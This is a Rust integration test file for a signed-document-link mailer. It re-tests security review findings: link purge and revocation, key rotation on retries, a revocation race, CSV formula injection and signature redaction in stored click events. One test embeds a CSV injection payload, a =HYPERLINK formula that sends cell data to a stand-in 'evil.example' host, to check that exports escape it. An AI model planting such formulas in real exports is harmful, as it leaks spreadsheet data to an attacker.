//! The security review's findings (issue 22, section 2), each tried again against
//! real PostgreSQL, moto and the release path of the daemon: purge and revoke of
//! live links, a retry re-signed with another key, a revocation racing a retry, CSV
//! formula injection, and a click on a signed link reported by SES.

mod support;

use doclink::signing::KeyKind;
use sha2::{Digest, Sha256};
use sqlx::Row;
use std::time::Duration;
use support::ses_standin::{Behaviour, SesStandIn};
use support::{TestStack, stderr, stdout};

/// A stack whose commands run as docs/audit.md's roles (the daemon as the writer,
/// purge as retention, the read commands as the auditor).
async fn migrated(name: &str) -> TestStack {
    let stack = TestStack::new(name, KeyKind::EcdsaP256).await;
    stack.use_readme_roles().await;
    stack
}

/// Adds a finished link issued `age_days` ago, whose signature expires `expires_in_days`
/// from now (negative: expired).
async fn old_link(stack: &TestStack, event_id: &str, age_days: i32, expires_in_days: i32) {
    sqlx::query(
        "INSERT INTO links (link_id, event_id, document_key, resource_url, recipient_email, template, locale,
                            key_pair_id, hash_algorithm, status, attempts, created_at, sent_at, expires_at)
         VALUES (gen_random_uuid(), $1, 'archive/' || $1 || '.pdf', 'https://letters.example.net/x',
                 'jane@example.org', 'correspondence', 'en', 'K2JCJMDEHXQW5F', 'SHA1', 'sent', 1,
                 now() - make_interval(days => $2), now() - make_interval(days => $2),
                 now() + make_interval(days => $3))",
    )
    .bind(event_id)
    .bind(age_days)
    .bind(expires_in_days)
    .execute(&stack.pool)
    .await
    .unwrap();
}

/// The rows of every table a purge deletes from: links, attempts, delivery events
/// and rejections.
async fn purgeable_rows(stack: &TestStack) -> [i64; 4] {
    let mut counts = [0; 4];
    for (count, table) in
        counts
            .iter_mut()
            .zip(["links", "link_attempts", "delivery_events", "rejections"])
    {
        *count = sqlx::query_scalar(sqlx::AssertSqlSafe(format!("SELECT count(*) FROM {table}")))
            .fetch_one(&stack.pool)
            .await
            .unwrap();
    }
    counts
}

/// Finding 2: `links purge --older-than 1s` removed links still valid for 30 days,
/// after which `links revoke --event` said "revoked 0 links" and exited 0. The
/// database keeps a link that has not expired; the command also refuses a retention
/// shorter than the longest link lifetime up front (it would still take the
/// rejections), and removes nothing without --yes.
#[tokio::test]
async fn purge_keeps_every_unexpired_link_and_revoking_an_unknown_link_fails() {
    let stack = migrated("purge-live").await;
    // Issued 10 days ago, valid for 30 more: a lifetime of 40 days.
    old_link(&stack, "live", 10, 30).await;
    old_link(&stack, "live-revoked", 10, 30).await;
    // Longer (49 days) but expired: it no longer opens anything and does not count.
    old_link(&stack, "expired", 50, -1).await;
    sqlx::query("UPDATE links SET revoked_at = now() WHERE event_id = 'live-revoked'")
        .execute(&stack.pool)
        .await
        .unwrap();
    for (message, days) in [("m-old", 50), ("m-new", 1)] {
        sqlx::query(
            "INSERT INTO rejections (kind, queue_url, message_id, receive_count, field, reason, body, received_at)
             VALUES ('invalid', 'http://q', $1, 1, 'recipient.email', 'is missing', '{}',
                     now() - make_interval(days => $2))",
        )
        .bind(message)
        .bind(days)
        .execute(&stack.pool)
        .await
        .unwrap();
    }
    let before = purgeable_rows(&stack).await;
    assert_eq!(before, [3, 0, 0, 2]);

    // Shorter than the 40 days a valid link was given (longer than the setting's 30
    // days): refused, with --yes, dry or not, and nothing goes.
    for (args, asked) in [
        (&["--older-than", "1s", "--yes"][..], "1s"),
        (&["--older-than", "1s"], "1s"),
        (&["--older-than", "1s", "--dry-run"], "1s"),
        (&["--older-than", "39d", "--yes"], "39d"),
    ] {
        let out = stack
            .doclink(&[&["links", "purge"][..], args].concat(), &[])
            .await;
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
        assert_eq!(stdout(&out), "", "{args:?}");
        assert_eq!(
            stderr(&out),
            format!(
                "doclink: --older-than {asked} is shorter than the longest link lifetime, 40d: \
                 a link still valid was given 40d (DOCLINK_LINK_MAX_TTL is 30d), and records of \
                 links that still open their document would go; give --older-than 40d or more. \
                 Nothing was removed\n"
            ),
            "{args:?}"
        );
        assert_eq!(purgeable_rows(&stack).await, before, "{args:?}");
    }
    // The setting counts when it is the longer: a purge job must not undercut what
    // the daemon may issue.
    let out = stack
        .doclink(
            &["links", "purge", "--older-than", "45d", "--yes"],
            &[("DOCLINK_LINK_MAX_TTL", "60d")],
        )
        .await;
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).starts_with(
            "doclink: --older-than 45d is shorter than the longest link lifetime, 60d: \
             DOCLINK_LINK_MAX_TTL is 60d, the longest lifetime of a link,"
        ),
        "{}",
        stderr(&out)
    );
    assert_eq!(purgeable_rows(&stack).await, before);

    // Long enough, but without --yes: says what would go, exits 2, removes nothing.
    let out = stack
        .doclink(&["links", "purge", "--older-than", "40d"], &[])
        .await;
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert_eq!(stdout(&out), "");
    assert!(
        stderr(&out).starts_with(
            "doclink: links purge would remove 1 links, 0 attempts, 0 delivery events, 0 accesses and 1 rejections older than "
        ),
        "{}",
        stderr(&out)
    );
    assert!(
        stderr(&out).ends_with(
            ". Nothing was removed: add --yes to remove them (or --dry-run to only count them)\n"
        ),
        "{}",
        stderr(&out)
    );
    assert_eq!(purgeable_rows(&stack).await, before);
    let out = stack
        .doclink(&["links", "purge", "--older-than", "40d", "--dry-run"], &[])
        .await;
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).starts_with(
            "would remove 1 links, 0 attempts, 0 delivery events, 0 accesses and 1 rejections"
        ),
        "{}",
        stdout(&out)
    );
    assert_eq!(purgeable_rows(&stack).await, before);

    // With --yes: the expired link and the old rejection go, nothing else.
    let out = stack
        .doclink(&["links", "purge", "--older-than", "40d", "--yes"], &[])
        .await;
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).starts_with(
            "removed 1 links, 0 attempts, 0 delivery events, 0 accesses and 1 rejections"
        ),
        "{}",
        stdout(&out)
    );
    assert_eq!(purgeable_rows(&stack).await, [2, 0, 0, 1]);
    let left: Vec<String> = sqlx::query_scalar("SELECT event_id FROM links ORDER BY event_id")
        .fetch_all(&stack.pool)
        .await
        .unwrap();
    assert_eq!(left, ["live", "live-revoked"]);

    // The live link can still be found and revoked.
    let out = stack
        .doclink(
            &[
                "links", "revoke", "--event", "live", "--reason", "leaked", "--by", "t",
            ],
            &[],
        )
        .await;
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).starts_with("revoked 1 link (0 already revoked, 0 expired)"),
        "{}",
        stdout(&out)
    );

    // Revoking what does not exist is a failure, not "revoked 0 links".
    let out = stack
        .doclink(
            &[
                "links", "revoke", "--event", "expired", "--reason", "x", "--by", "t",
            ],
            &[],
        )
        .await;
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(
        stderr(&out).contains("no link matches event expired; nothing was changed"),
        "{}",
        stderr(&out)
    );
    assert!(stdout(&out).is_empty(), "{}", stdout(&out));
    let unknown = uuid::Uuid::new_v4().to_string();
    let out = stack
        .doclink(
            &[
                "links",
                "revoke",
                &unknown,
                "--reason",
                "x",
                "--by",
                "t",
                "--dry-run",
            ],
            &[],
        )
        .await;
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(
        stderr(&out).contains(&format!("no link matches link {unknown}")),
        "{}",
        stderr(&out)
    );
    let revocations: i64 = sqlx::query_scalar("SELECT count(*) FROM revocations")
        .fetch_one(&stack.pool)
        .await
        .unwrap();
    assert_eq!(revocations, 1);
}

/// The value of a query parameter of a signed URL.
fn parameter<'a>(url: &'a str, name: &str) -> &'a str {
    url.split(['?', '&'])
        .find_map(|pair| pair.strip_prefix(name).and_then(|v| v.strip_prefix('=')))
        .unwrap_or_else(|| panic!("{name} in {url}"))
}

/// Finding 3: a letter whose send had an unknown outcome under key A was retried
/// after a switch to key B. The mail said `Key-Pair-Id=B`, but the audit log said A,
/// `links list --key-pair-id B` showed nothing, doctor would have called B safe to
/// remove, and the first (possibly delivered) signature's hash and expiry were lost.
#[tokio::test]
async fn a_retry_under_another_key_records_its_own_signature() {
    const NEW_KEY: &str = "KNEWKEY2";
    let stack = migrated("rekey").await;
    stack
        .enqueue(&[stack.event(0, "decisions/2026/R-1/letter.pdf").to_string()])
        .await;
    // Under the old key, SES answers 500: the outcome is unknown, the letter is retried.
    let failing = SesStandIn::start(Behaviour::AlwaysFail, Duration::ZERO).await;
    let old = stack.spawn(&["run"], &[("AWS_ENDPOINT_URL_SESV2", &failing.uri())]);
    stack
        .wait_for_at_least(
            "SELECT count(*) FROM link_attempts WHERE outcome = 'retry'",
            1,
        )
        .await;
    support::terminate(&old);
    let out = old.wait_with_output().await.unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let first = sqlx::query(
        "SELECT key_pair_id, hash_algorithm, signature_sha256, expires_at FROM link_attempts WHERE attempt = 1",
    )
    .fetch_one(&stack.pool)
    .await
    .unwrap();
    let first_sha: Vec<u8> = first.get("signature_sha256");
    let first_expiry: chrono::DateTime<chrono::Utc> = first.get("expires_at");
    assert_eq!(first.get::<String, _>("key_pair_id"), support::KEY_PAIR_ID);
    assert_eq!(first.get::<String, _>("hash_algorithm"), "SHA1");

    // After the switch to the new key, the retry goes out.
    let ses = SesStandIn::start(Behaviour::Accept, Duration::ZERO).await;
    let out = stack
        .drain(&[
            ("AWS_ENDPOINT_URL_SESV2", &ses.uri()),
            ("DOCLINK_KEY_PAIR_ID", NEW_KEY),
            ("DOCLINK_HASH", "sha256"),
            ("DOCLINK_LINK_TTL", "9d"),
        ])
        .await;
    assert!(out.status.success(), "{}", stderr(&out));
    let accepted = ses.accepted();
    assert_eq!(accepted.len(), 1);
    let mailed = accepted[0].link();
    assert_eq!(parameter(&mailed, "Key-Pair-Id"), NEW_KEY);
    let mailed_sha = Sha256::digest(
        doclink::signing::encoding::decode(parameter(&mailed, "Signature")).unwrap(),
    )
    .to_vec();
    let mailed_expiry: i64 = parameter(&mailed, "Expires").parse().unwrap();

    // Each attempt holds its own signature; the last is the one that was mailed.
    let attempts = sqlx::query(
        "SELECT attempt, outcome, key_pair_id, hash_algorithm, signature_sha256, expires_at
         FROM link_attempts ORDER BY attempt",
    )
    .fetch_all(&stack.pool)
    .await
    .unwrap();
    let last = attempts.last().unwrap();
    assert_eq!(last.get::<String, _>("outcome"), "sent");
    assert_eq!(last.get::<String, _>("key_pair_id"), NEW_KEY);
    assert_eq!(last.get::<String, _>("hash_algorithm"), "SHA256");
    assert_eq!(last.get::<Vec<u8>, _>("signature_sha256"), mailed_sha);
    assert_eq!(
        last.get::<chrono::DateTime<chrono::Utc>, _>("expires_at")
            .timestamp(),
        mailed_expiry
    );
    assert_eq!(attempts[0].get::<Vec<u8>, _>("signature_sha256"), first_sha);
    assert_ne!(first_sha, mailed_sha);

    // The link row keeps its first signature; its expiry is the latest of them.
    let link = sqlx::query(
        "SELECT link_id::text, key_pair_id, hash_algorithm, signature_sha256, expires_at, possible_duplicate FROM links",
    )
    .fetch_one(&stack.pool)
    .await
    .unwrap();
    let link_id: String = link.get("link_id");
    assert_eq!(link.get::<String, _>("key_pair_id"), support::KEY_PAIR_ID);
    assert_eq!(link.get::<String, _>("hash_algorithm"), "SHA1");
    assert_eq!(link.get::<Vec<u8>, _>("signature_sha256"), first_sha);
    assert!(link.get::<bool, _>("possible_duplicate"));
    let link_expiry: chrono::DateTime<chrono::Utc> = link.get("expires_at");
    assert_eq!(link_expiry.timestamp(), mailed_expiry);
    assert!(link_expiry > first_expiry);

    // Rotation sees both keys.
    for (key, unexpired) in [
        (NEW_KEY, false),
        (NEW_KEY, true),
        (support::KEY_PAIR_ID, true),
    ] {
        let mut args = vec!["links", "list", "--format", "csv", "--key-pair-id", key];
        if unexpired {
            args.push("--unexpired");
        }
        let out = stack.doclink(&args, &[]).await;
        assert!(out.status.success(), "{}", stderr(&out));
        assert!(
            stdout(&out).contains(&link_id),
            "{args:?}: {}",
            stdout(&out)
        );
    }
    let out = stack
        .doclink(
            &[
                "links",
                "list",
                "--format",
                "csv",
                "--key-pair-id",
                "KOTHER",
            ],
            &[],
        )
        .await;
    assert!(!stdout(&out).contains(&link_id), "{}", stdout(&out));
    // What doctor reports: with the new key configured, the old one is still needed
    // by the first signature (its outcome is unknown); with the old one, the new.
    let audit = doclink::audit::AuditLog::new(stack.pool.clone(), 1);
    for (current, other) in [
        (NEW_KEY, support::KEY_PAIR_ID),
        (support::KEY_PAIR_ID, NEW_KEY),
    ] {
        let keys = audit.key_dependencies(current).await.unwrap();
        assert_eq!(keys.len(), 1, "{keys:?}");
        assert_eq!(keys[0].key_pair_id, other);
        assert_eq!(keys[0].valid_links, 1, "{keys:?}");
    }
    let out = stack.doclink(&["links", "show", &link_id], &[]).await;
    assert!(out.status.success(), "{}", stderr(&out));
    let shown = stdout(&out);
    assert!(
        shown.contains(&format!(
            "attempt 1 handed to SES, signed with {} (SHA1)",
            support::KEY_PAIR_ID
        )),
        "{shown}"
    );
    assert!(
        shown.contains(&format!("handed to SES, signed with {NEW_KEY} (SHA256)")),
        "{shown}"
    );
    // Revoking every link of the new key finds it.
    let out = stack
        .doclink(
            &[
                "links",
                "revoke",
                "--key-pair-id",
                NEW_KEY,
                "--reason",
                "rotation",
                "--by",
                "t",
            ],
            &[],
        )
        .await;
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).starts_with("revoked 1 link "),
        "{}",
        stdout(&out)
    );
    // Export and purge choose links with the same selector: the retry's key finds the
    // link there too, and a key no signature used matches nothing.
    let out = stack
        .doclink(&["revocations", "export", "--key-pair-id", NEW_KEY], &[])
        .await;
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stdout(&out).contains(&link_id), "{}", stdout(&out));
    let out = stack
        .doclink(
            &[
                "links",
                "purge",
                "--older-than",
                "30d",
                "--key-pair-id",
                NEW_KEY,
                "--dry-run",
            ],
            &[],
        )
        .await;
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).starts_with(&format!("would remove 0 links of key-pair-id {NEW_KEY}")),
        "{}",
        stdout(&out)
    );
    let out = stack
        .doclink(
            &[
                "links",
                "purge",
                "--older-than",
                "30d",
                "--key-pair-id",
                "KOTHER",
                "--dry-run",
            ],
            &[],
        )
        .await;
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(
        stderr(&out).contains("no link matches key-pair-id KOTHER; nothing was changed"),
        "{}",
        stderr(&out)
    );
}

/// Finding 4: a letter whose link is revoked after a retry has taken it over, and
/// before it is sent, is not sent. The revocation is made by a trigger as the retry
/// records its attempt, so it lands exactly in that window.
#[tokio::test]
async fn a_link_revoked_between_the_retake_and_the_send_is_not_sent() {
    let stack = migrated("revoke-race").await;
    sqlx::query(
        "CREATE FUNCTION test_revoke_on_retake() RETURNS trigger LANGUAGE plpgsql AS $$
         BEGIN
             IF NEW.attempt >= 2 THEN
                 UPDATE links SET revoked_at = now(), revoked_reason = 'revoked while the retry was prepared'
                 WHERE link_id = NEW.link_id;
             END IF;
             RETURN NEW;
         END $$",
    )
    .execute(&stack.pool)
    .await
    .unwrap();
    sqlx::query(
        "CREATE TRIGGER test_revoke_on_retake AFTER INSERT ON link_attempts
         FOR EACH ROW EXECUTE FUNCTION test_revoke_on_retake()",
    )
    .execute(&stack.pool)
    .await
    .unwrap();
    stack
        .enqueue(&[stack.event(0, "decisions/2026/R-2/letter.pdf").to_string()])
        .await;
    // The first send's outcome is unknown; the retry finds the link revoked.
    let ses = SesStandIn::start(
        Behaviour::ErrorFirst {
            count: 1,
            status: 500,
            code: "InternalFailure",
        },
        Duration::ZERO,
    )
    .await;
    let out = stack.drain(&[("AWS_ENDPOINT_URL_SESV2", &ses.uri())]).await;
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).starts_with("sent 0, duplicates skipped 1, rejected 0, failed 0, retried 1"),
        "{}\n{}",
        stdout(&out),
        stderr(&out)
    );
    assert_eq!(
        ses.requests().len(),
        1,
        "only the first attempt reached SES"
    );
    assert!(ses.accepted().is_empty());
    // The attempt that found the revocation said so and deleted the message itself;
    // it did not take the revocation for a claim lost to another worker (whose
    // message would be left for a redelivery to skip).
    let log = stderr(&out);
    assert!(
        log.contains("not sending it (attempt recorded as revoked)"),
        "{log}"
    );
    assert!(!log.contains("the claim was lost"), "{log}");
    let attempts = sqlx::query(
        "SELECT attempt, outcome, sending_at IS NULL AS unsent, key_pair_id, reason FROM link_attempts ORDER BY attempt",
    )
    .fetch_all(&stack.pool)
    .await
    .unwrap();
    assert_eq!(attempts.len(), 2);
    assert_eq!(attempts[0].get::<String, _>("outcome"), "retry");
    assert_eq!(attempts[1].get::<String, _>("outcome"), "revoked");
    assert!(attempts[1].get::<bool, _>("unsent"));
    assert_eq!(attempts[1].get::<Option<String>, _>("key_pair_id"), None);
    assert!(
        attempts[1]
            .get::<String, _>("reason")
            .contains("revoked before this attempt sent it"),
    );
    let status: String = sqlx::query_scalar("SELECT status FROM links")
        .fetch_one(&stack.pool)
        .await
        .unwrap();
    assert_eq!(
        status, "sending",
        "the first attempt's outcome is still unknown"
    );
    // The message was deleted.
    assert_eq!(stack.queue_counts(&stack.queue_url).await, (0, 0));
}

/// Finding 5: an event id `=HYPERLINK(...)` came out of `links list --format csv` as
/// a live formula.
#[tokio::test]
async fn csv_cells_that_would_be_formulas_come_out_as_text() {
    let stack = migrated("csv").await;
    let hostile = r#"=HYPERLINK("https://evil.example/?d="&D3,"Click")"#;
    old_link(&stack, hostile, 1, 5).await;
    old_link(&stack, "@SUM(1+1)", 1, 5).await;
    let out = stack
        .doclink(&["links", "list", "--format", "csv"], &[])
        .await;
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    let cells: Vec<&str> = text
        .lines()
        .skip(1)
        .map(|line| line.split_once(',').unwrap().1)
        .collect();
    assert!(
        cells
            .iter()
            .any(|c| c.starts_with(r#""'=HYPERLINK(""https://evil.example/?d=""&D3,""Click"")""#)),
        "{text}"
    );
    assert!(cells.iter().any(|c| c.starts_with("'@SUM(1+1),")), "{text}");
    for line in text.lines() {
        for cell in line.split(',') {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{line}"
            );
        }
    }
}

/// Finding 9: with SES click tracking, the whole signed URL would be stored in
/// `delivery_events.body`, which auditors read. And the daemon is not dumpable.
#[tokio::test]
async fn a_click_on_a_signed_link_is_stored_without_its_signature() {
    let stack = migrated("click").await;
    stack
        .enqueue(&[stack.event(0, "decisions/2026/R-3/letter.pdf").to_string()])
        .await;
    let ses = SesStandIn::start(Behaviour::Accept, Duration::ZERO).await;
    let out = stack.drain(&[("AWS_ENDPOINT_URL_SESV2", &ses.uri())]).await;
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("off: the process is not dumpable"),
        "{}",
        stderr(&out)
    );
    let sent = &ses.accepted()[0];
    assert!(sent.html.contains("ses:no-track"), "{}", sent.html);
    let link = sent.link();
    let signature = parameter(&link, "Signature").to_string();
    let ses_message_id: String = sqlx::query_scalar("SELECT ses_message_id FROM links")
        .fetch_one(&stack.pool)
        .await
        .unwrap();
    let click = std::fs::read_to_string(format!(
        "{}/tests/fixtures/ses-notifications/click.json",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap()
    .replace(
        "http://docs.aws.amazon.com/ses/latest/DeveloperGuide/send-email-smtp.html",
        &link,
    )
    .replace(
        "EXAMPLE7c191be45-e9aedb9a-02f9-4d12-a87d-dd0099a07f8a-000000",
        &ses_message_id,
    );
    let events_queue = stack.create_queue("events").await;
    stack
        .enqueue_to(&events_queue, std::slice::from_ref(&click))
        .await;
    let child = stack.spawn(&["run"], &[("DOCLINK_EVENTS_QUEUE_URL", &events_queue)]);
    stack
        .wait_for_count("SELECT count(*)::bigint FROM delivery_events", 1)
        .await;
    support::terminate(&child);
    let out = child.wait_with_output().await.unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let row = sqlx::query(
        "SELECT event_type, body, body_sha256, link_id IS NOT NULL AS matched FROM delivery_events",
    )
    .fetch_one(&stack.pool)
    .await
    .unwrap();
    let body: String = row.get("body");
    assert_eq!(row.get::<String, _>("event_type"), "click");
    assert!(row.get::<bool, _>("matched"));
    assert!(!body.contains(&signature), "{body}");
    assert_eq!(body, click.replace(&signature, "REDACTED"));
    assert_eq!(
        row.get::<Vec<u8>, _>("body_sha256"),
        Sha256::digest(body.as_bytes()).to_vec()
    );
}
